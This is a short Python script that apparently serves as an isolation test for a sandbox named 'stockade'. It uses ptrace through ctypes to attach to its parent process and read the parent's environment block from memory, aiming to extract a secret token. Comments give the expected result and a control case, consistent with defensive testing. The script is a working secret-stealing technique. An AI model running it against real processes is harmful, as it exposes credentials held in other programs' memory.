# Attack: PTRACE_ATTACH (via ctypes) to our parent (in the jail: stockade's init, which is a
# fork of the host-side stockade) and PTRACE_PEEKDATA its environment block, which holds the
# caller's STOCKADE_TEST_SECRET.
# Evidence: the token must not appear. Control: run under a parent with the token in its
# environment, the token is printed.
import ctypes, os, struct, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
pid = os.getppid()
if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
    print("ATTACH_DENIED", ctypes.get_errno())
else:
    os.waitpid(pid, 0x40000000)  # __WALL
    try:
        f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
        start, end = int(f[47]), int(f[48])  # fields 50, 51: env_start, env_end
    except (OSError, IndexError):
        start = end = 0
    out = bytearray()
    for addr in range(start, min(end, start + 65536), 8):
        ctypes.set_errno(0)
        word = libc.ptrace(PTRACE_PEEKDATA, pid, ctypes.c_void_p(addr), None)
        if word == -1 and ctypes.get_errno():
            break
        out += struct.pack("<q", word)
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    print("PEEKED", out.decode(errors="replace"))
